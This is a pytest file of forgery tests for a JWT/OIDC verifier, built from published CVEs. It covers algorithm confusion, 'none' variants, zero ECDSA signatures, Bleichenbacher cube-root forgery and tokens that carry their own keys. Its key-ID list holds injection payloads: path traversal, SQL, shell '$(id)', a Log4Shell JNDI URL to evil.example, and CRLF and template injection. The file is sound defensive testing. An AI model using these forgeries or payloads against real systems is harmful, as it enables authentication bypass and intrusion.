"""Forgeries that broke other readers of tokens, each against the whole verifier.

The ideas are those of the field's advisories and test suites; every token is made here.
"""

import base64
import hmac
import json
import textwrap
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from agent.errors import Denial, Reason
from agent.identity.principal import Verified
from vectors.ring import Ring, b64

ISS = "https://op.example"
NOW = 1_800_000_000.0
CLAIMS: dict[str, Any] = {
    "iss": ISS,
    "aud": "orders",
    "sub": "alice",
    "iat": NOW - 10,
    "exp": NOW + 300,
}
ALL = ["RS256", "PS256", "ES256", "ES384", "ES512", "EdDSA"]
MALFORMED, INVALID, UNKNOWN = Reason.MALFORMED_TOKEN, Reason.INVALID_TOKEN, Reason.UNKNOWN_KEY


@pytest.fixture
def world(build: Any, web: Any, ring: Any) -> Any:
    keys = ring.jwks(ring.jwk("rsa", alg="RS256"), "ec256", "ec384", "ec521", "ed")
    web.publish(ISS, ISS, keys)
    op = {"issuer": ISS, "audiences": ["orders"], "algorithms": ALL}
    return build(web, {"name": "op", "oidc": op})


def reason(found: Any) -> Reason | None:
    return found.reason if isinstance(found, Denial) else None


def parts(token: str) -> tuple[str, str, str]:
    header, payload, signature = token.split(".")
    return header, payload, signature


def flattened(token: str, **more: Any) -> str:
    header, payload, signature = parts(token)
    return json.dumps({"payload": payload, "protected": header, "signature": signature} | more)


def general(token: str) -> str:
    header, payload, signature = parts(token)
    signatures = [{"protected": header, "signature": signature}]
    return json.dumps({"payload": payload, "signatures": signatures})


def another_last_character(token: str) -> str:
    """64 bytes leave four unused bits in the last character."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    place = alphabet.index(token[-1])
    other = token[:-1] + alphabet[place ^ 1]
    pad = "=" * (-len(other.split(".")[2]) % 4)
    same = [base64.urlsafe_b64decode(text.split(".")[2] + pad) for text in (token, other)]
    assert same[0] == same[1]
    return other


SPELLINGS: dict[str, Callable[[str], str]] = {
    "space before": lambda t: f" {t}",
    "space after": lambda t: f"{t} ",
    "tab after": lambda t: f"{t}\t",
    "line end after": lambda t: f"{t}\n",
    "lines of 64 characters": lambda t: "\n".join(textwrap.wrap(t, 64)),
    "MIME lines": lambda t: "\r\n".join(textwrap.wrap(t, 76)),
    "space beside the dots": lambda t: t.replace(".", " . "),
    "form feed in the signature": lambda t: f"{t[:-4]}\f{t[-4:]}",
    "no-break space": lambda t: f"{t}\u00a0",
    "zero-width space": lambda t: f"{t[:10]}\u200b{t[10:]}",
    "NUL after": lambda t: f"{t}\0",
    "byte order mark": lambda t: f"\ufeff{t}",
    "trailing dot": lambda t: f"{t}.",
    "two trailing dots": lambda t: f"{t}..",
    "leading dot": lambda t: f".{t}",
    "four parts": lambda t: f"{t}.AAAA",
    "five parts": lambda t: f"{t}.AAAA.AAAA",
    "full-width dots": lambda t: t.replace(".", "\uff0e"),
    "percent-encoded dots": lambda t: t.replace(".", "%2E"),
    "percent-encoded letter": lambda t: f"%65{t[1:]}",
    "padding of each part": lambda t: ".".join(p + "=" * (-len(p) % 4 or 4) for p in t.split(".")),
    "one padding character": lambda t: f"{t}=",
    "percent-encoded padding": lambda t: f"{t}%3D",
    "plain base64": lambda t: f"{t[:-8]}+/{t[-6:]}",
    "a tilde of SD-JWT": lambda t: f"{t}~",
    "unused bits set": another_last_character,
    "quotes": lambda t: f'"{t}"',
    "JSON, flattened": flattened,
    "JSON, general": general,
    "JSON with an unprotected header": lambda t: flattened(t, header={"kid": "ed"}),
    "detached": lambda t: "..".join(parts(t)[::2]),
    "without a signature": lambda t: t.rpartition(".")[0] + ".",
    "without the last dot": lambda t: t.rpartition(".")[0],
    "only the header": lambda t: t.split(".", maxsplit=1)[0],
    "twice": lambda t: f"{t}.{t}",
    "a JWE's shape": lambda t: ".".join([*parts(t), "AAAA", "AAAA"]),
    "in another encoding": lambda t: t.encode("utf-16").decode("latin-1"),
}


@pytest.mark.must(1)
@pytest.mark.parametrize("spelling", SPELLINGS.values(), ids=SPELLINGS)
def test_a_genuine_token_has_one_spelling(
    world: Any, ring: Ring, spelling: Callable[[str], str]
) -> None:
    token = ring.mint("ed", CLAIMS)
    assert isinstance(world.verify(token), Verified)
    assert reason(world.verify(spelling(token))) is MALFORMED


def public_spellings(key: Any, jwk: dict[str, Any]) -> dict[str, bytes]:
    """Everything public that a confused library may take for an HMAC secret."""
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    found = {
        "PEM": pem,
        "PEM, trimmed": pem.strip(),
        "PEM, one line": pem.replace(b"\n", b""),
        "PEM, CRLF": pem.replace(b"\n", b"\r\n"),
        "DER": key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "OpenSSH": key.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(jwk).encode(),
        "JWK, compact": json.dumps(jwk, separators=(",", ":")).encode(),
        "JWKS": json.dumps({"keys": [jwk]}).encode(),
        "number in text": jwk.get("n", jwk.get("x", "")).encode(),
        "number": base64.urlsafe_b64decode(jwk.get("n", jwk.get("x", "")) + "=="),
        "key id": jwk["kid"].encode(),
        "nothing": b"",
        "zeros": bytes(32),
        "None": b"None",
        "null": b"null",
    }
    if isinstance(key, rsa.RSAPublicKey):
        found["PKCS 1 PEM"] = key.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        found["PKCS 1 DER"] = key.public_bytes(Encoding.DER, PublicFormat.PKCS1)
    return found


@pytest.mark.must(2)
@pytest.mark.parametrize("name", ["rsa", "ec256", "ed"])
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512", "hs256"])
def test_no_public_key_is_a_secret(world: Any, ring: Ring, name: str, alg: str) -> None:
    """CVE-2015-9235, CVE-2016-5431, CVE-2022-29217: algorithm confusion."""
    secrets = public_spellings(ring.keys[name].public_key(), ring.jwk(name))
    for secret in secrets.values():
        header = {"alg": alg, "kid": name, "typ": "JWT"}
        message = ".".join(b64(json.dumps(part).encode()) for part in (header, CLAIMS))
        digest = hmac.digest(secret, message.encode(), f"sha{alg[2:]}")
        assert reason(world.verify(f"{message}.{b64(digest)}")) is INVALID


NAMES = [
    *("none", "None", "NONE", "nOnE", "nonE", "", " ", "RS256 ", " RS256", "rs256", "Rs256"),
    *("RS256\0", "RS256\n", "\uff32\uff33256", "R\u0405256", "RS-256", "RSA256", "RS1", "RS512"),
    *("HS256", "HS1", "ES256K", "ES256K-R", "ESP256", "Ed25519", "Ed448", "EDDSA", "eddsa"),
    *("RSA-OAEP", "RSA1_5", "ECDH-ES", "dir", "A128KW", "PBES2-HS256+A128KW", "A128GCM"),
    *("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "1.2.840.113549.1.1.11", "MD5"),
    *("' OR 1=1 --", "../../../dev/null", "*", ".*", "any", "x" * 4000),
]


@pytest.mark.must(2)
@pytest.mark.parametrize("alg", NAMES, ids=ascii)
@pytest.mark.parametrize("signature", ["its own", "one byte", "zeros"])
def test_no_other_name_of_an_algorithm_is_taken(
    world: Any, ring: Ring, alg: str, signature: str
) -> None:
    """CVE-2015-9235, CVE-2020-28042 and the many case variants of none."""
    header = json.dumps({"alg": alg, "kid": "rsa"}).encode()
    message, _, own = ring.seal("rsa", "RS256", header, json.dumps(CLAIMS).encode()).rpartition(".")
    sealed = {"its own": own, "one byte": "AA", "zeros": b64(bytes(256))}[signature]
    assert reason(world.verify(f"{message}.{sealed}")) is INVALID


@pytest.mark.must(2)
@pytest.mark.parametrize("alg", [None, 1, True, ["RS256"], {"RS256": 1}, ["none", "RS256"]])
def test_an_algorithm_is_a_string(world: Any, ring: Ring, alg: Any) -> None:
    header = json.dumps({"alg": alg, "kid": "rsa"}).encode()
    token = ring.seal("rsa", "RS256", header, json.dumps(CLAIMS).encode())
    assert reason(world.verify(token)) is MALFORMED


@pytest.mark.must(2)
@pytest.mark.parametrize(
    ("name", "alg"),
    [
        ("ec256", "ES384"),
        ("ec384", "ES256"),
        ("ec521", "ES256"),
        ("ec256", "EdDSA"),
        ("ed", "ES256"),
        ("rsa", "PS256"),
        ("rsa", "ES256"),
        ("ec256", "RS256"),
        ("ed", "RS256"),
    ],
)
def test_an_algorithm_of_another_key_is_refused(
    world: Any, ring: Ring, name: str, alg: str
) -> None:
    own = {"rsa": "RS256", "ed": "EdDSA"}.get(name, f"ES{name[2:].replace('521', '512')}")
    header = json.dumps({"alg": alg, "kid": name}).encode()
    assert (
        reason(world.verify(ring.seal(name, own, header, json.dumps(CLAIMS).encode()))) is INVALID
    )


ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # of P-256


def es256(r: int, s: int, size: int = 32) -> bytes:
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


ECDSA = {
    "all zeros (CVE-2022-21449)": es256(0, 0),
    "r is zero": es256(0, 1),
    "s is zero": es256(1, 0),
    "ones": es256(1, 1),
    "the order": es256(ORDER, ORDER),
    "r is the order": es256(ORDER, 1),
    "s is the order": es256(1, ORDER),
    "one less than the order": es256(ORDER - 1, ORDER - 1),
    "all ones": b"\xff" * 64,
    "63 bytes": bytes(63),
    "65 bytes": bytes(65),
    "one byte": b"\0",
    "of P-384": bytes(96),
    "DER of zeros": bytes.fromhex("3006020100020100"),
    "DER of ones": bytes.fromhex("3006020101020101"),
}


@pytest.mark.must(2)
@pytest.mark.parametrize("signature", ECDSA.values(), ids=ECDSA)
def test_no_made_up_signature_of_ecdsa_holds(world: Any, ring: Ring, signature: bytes) -> None:
    message = ring.mint("ec256", CLAIMS).rpartition(".")[0]
    assert reason(world.verify(f"{message}.{b64(signature)}")) is INVALID


@pytest.mark.must(2)
def test_signatures_of_ecdsa_have_the_form_of_rfc_7518(world: Any, ring: Ring) -> None:
    message, _, signature = ring.mint("ec256", CLAIMS).rpartition(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
    der = ring.keys["ec256"].sign(message.encode(), ec.ECDSA(hashes.SHA256()))
    for forged in (
        der,
        es256(r, s, 33),  # longer numbers
        es256(r, s, 48),
        es256(r, s)[::-1],
        es256(s, r),
        es256(r, (s + 1) % ORDER),
        b"\x04" + raw,
        raw + b"\0",
        b"\0" + raw,
        (r + ORDER).to_bytes(33, "big") + s.to_bytes(33, "big"),
    ):
        assert reason(world.verify(f"{message}.{b64(forged)}")) is INVALID
    # RFC 7518 §3.4 has no rule about the half that s is in: both are signatures of the key's owner
    assert isinstance(world.verify(f"{message}.{b64(es256(r, ORDER - s))}"), Verified)


@pytest.mark.must(2)
def test_signatures_of_rsa_have_one_form(world: Any, ring: Ring) -> None:
    key = ring.keys["rsa"]
    modulus = key.public_key().public_numbers().n
    message, _, signature = ring.mint("rsa", CLAIMS).rpartition(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    value = int.from_bytes(raw, "big")
    forged = [
        *(n.to_bytes(256, "big") for n in (0, 1, 2, modulus - 1, modulus, modulus - value)),
        b"\0" + raw,
        raw + b"\0",
        raw[:-1],
        raw[1:],
        (value + modulus).to_bytes(257, "big"),
        b"\xff" * 256,
        key.sign(message.encode(), padding.PKCS1v15(), hashes.SHA1()),
        key.sign(message.encode(), padding.PKCS1v15(), hashes.SHA512()),
        key.sign(message.encode() + b"=", padding.PKCS1v15(), hashes.SHA256()),
        ring.sign("rsa", "PS256", message.encode()),
    ]
    for each in forged:
        assert reason(world.verify(f"{message}.{b64(each)}")) is INVALID


@pytest.mark.must(2)
def test_a_cube_root_is_no_signature(build: Any, web: Any) -> None:
    """Bleichenbacher 2006: with e = 3, a padding that nobody checks to its end can be made up."""
    three = Ring({"rsa": rsa.generate_private_key(3, 2048)})
    web.publish(ISS, ISS, three.jwks("rsa"))
    world = build(web, {"name": "op", "oidc": {"issuer": ISS, "audiences": ["orders"]}})
    token = three.mint("rsa", CLAIMS)
    assert isinstance(world.verify(token), Verified)
    message = token.rpartition(".")[0]
    digest = hashes.Hash(hashes.SHA256())
    digest.update(message.encode())
    info = bytes.fromhex("3031300d060960864801650304020105000420") + digest.finalize()
    for start in (b"\0\1" + b"\xff" * 8 + b"\0" + info, b"\0\1\0" + info, b"\0\1\xff\0" + info):
        least = int.from_bytes(start.ljust(256, b"\0"), "big")
        root = cube_root(least) + 1
        assert (root**3).to_bytes(256, "big").startswith(start)
        assert reason(world.verify(f"{message}.{b64(root.to_bytes(256, 'big'))}")) is INVALID


def cube_root(number: int) -> int:
    low, high = 0, 1 << (number.bit_length() // 3 + 1)
    while low < high:
        middle = (low + high + 1) // 2
        low, high = (middle, high) if middle**3 <= number else (low, middle - 1)
    return low


@pytest.mark.must(2)
def test_pss_has_one_salt_length_and_one_hash(build: Any, web: Any, ring: Ring) -> None:
    web.publish(ISS, ISS, ring.jwks("rsa"))
    op = {"issuer": ISS, "audiences": ["orders"], "algorithms": ["PS256"]}
    world = build(web, {"name": "op", "oidc": op})
    token = ring.mint("rsa", CLAIMS, alg="PS256")
    assert isinstance(world.verify(token), Verified)
    message = token.rpartition(".")[0]
    good, other = hashes.SHA256(), hashes.SHA1()
    for mask, salt, digest in (
        (good, 0, good),
        (good, 20, good),
        (other, 32, good),
        (good, 32, hashes.SHA512()),
        (other, 20, other),
    ):
        pss = padding.PSS(padding.MGF1(mask), salt)
        forged = ring.keys["rsa"].sign(message.encode(), pss, digest)
        assert reason(world.verify(f"{message}.{b64(forged)}")) is INVALID


@pytest.mark.must(2)
@pytest.mark.parametrize("signature", [bytes(64), b"\1" + bytes(63), b"\xff" * 64, bytes(63)])
def test_no_made_up_signature_of_eddsa_holds(world: Any, ring: Ring, signature: bytes) -> None:
    message = ring.mint("ed", CLAIMS).rpartition(".")[0]
    assert reason(world.verify(f"{message}.{b64(signature)}")) is INVALID


@pytest.mark.must(2)
def test_a_signature_of_eddsa_has_one_s(world: Any, ring: Ring) -> None:
    """RFC 8032 §5.1.7: S is smaller than the order, or each signature would have a twin."""
    order = 2**252 + 27742317777372353535851937790883648493
    message, _, signature = ring.mint("ed", CLAIMS).rpartition(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    twin = raw[:32] + (int.from_bytes(raw[32:], "little") + order).to_bytes(32, "little")
    assert reason(world.verify(f"{message}.{b64(twin)}")) is INVALID


@pytest.mark.must(3)
@pytest.mark.parametrize("kid", ["rsa", "rsa-b", None, "", "https://evil.example/keys#rsa-b"])
def test_a_token_cannot_bring_its_own_key(world: Any, ring: Ring, kid: str | None) -> None:
    """CVE-2018-0114: the key inside the token made its signature."""
    pem = (
        ring.keys["rsa-b"]
        .public_key()
        .public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    )
    for planted in (
        {"jwk": ring.jwk("rsa-b")},
        {"jwk": ring.jwk("rsa-b", kid=kid)},
        {"jwk": {"kty": "oct", "k": "AAAA"}},
        {"jku": "https://evil.example/keys"},
        {"jku": f"{ISS}/keys"},
        {"jku": f"{ISS}@evil.example/keys"},
        {"x5u": "https://evil.example/cert"},
        {"x5c": [base64.b64encode(pem).decode()]},
        {"x5t": "AAAA", "x5t#S256": "AAAA"},
        {"jwk": ["a"], "jku": 1, "x5c": {"a": []}},
    ):
        found = world.verify(ring.mint("rsa-b", CLAIMS, kid=kid, **planted))
        assert reason(found) in (INVALID, UNKNOWN)
    assert not [url for url in world.web.fetched if "evil" in url]


KIDS: list[str] = [
    *("", " ", "RSA", "rsa ", " rsa", "rsa\0", "rsa\n", "\uff52\uff53\uff41", "r\u200bsa"),
    *("../../../../dev/null", "/dev/null", "..\\..\\windows\\win.ini", "file:///etc/passwd"),
    *("' OR '1'='1", "x' UNION SELECT 'secret';--", "$(id)", "`id`", "|id", "; id", "{{7*7}}"),
    *("${jndi:ldap://evil.example/a}", "https://evil.example/key", "0", "null", "undefined"),
    *("__proto__", "constructor", "toString", "*", ".*", "%s%s%s%n", "%00", "\r\nX-Evil: 1"),
    *("\U0001f511", "\u202ersa", "e\u0301", "k" * 10_000, "\\", '"', "<script>"),
]


@pytest.mark.must(5, 34)
def test_a_key_id_is_a_name_and_nothing_else(world: Any, ring: Ring) -> None:
    before = len(world.web.fetched)
    for kid in KIDS:
        assert reason(world.verify(ring.mint("rsa", CLAIMS, kid=kid))) is UNKNOWN, ascii(kid)
    # discovery and keys, once for all of them
    assert len(world.web.fetched) <= before + 2


@pytest.mark.must(5)
@pytest.mark.parametrize(
    "kid", [None, 0, 1, 1.5, True, [], ["rsa"], {}, {"kid": "rsa"}, {"$ne": ""}]
)
def test_a_key_id_is_a_string(world: Any, ring: Ring, kid: Any) -> None:
    header = json.dumps({"alg": "RS256", "kid": kid}).encode()
    token = ring.seal("rsa", "RS256", header, json.dumps(CLAIMS).encode())
    assert reason(world.verify(token)) is MALFORMED
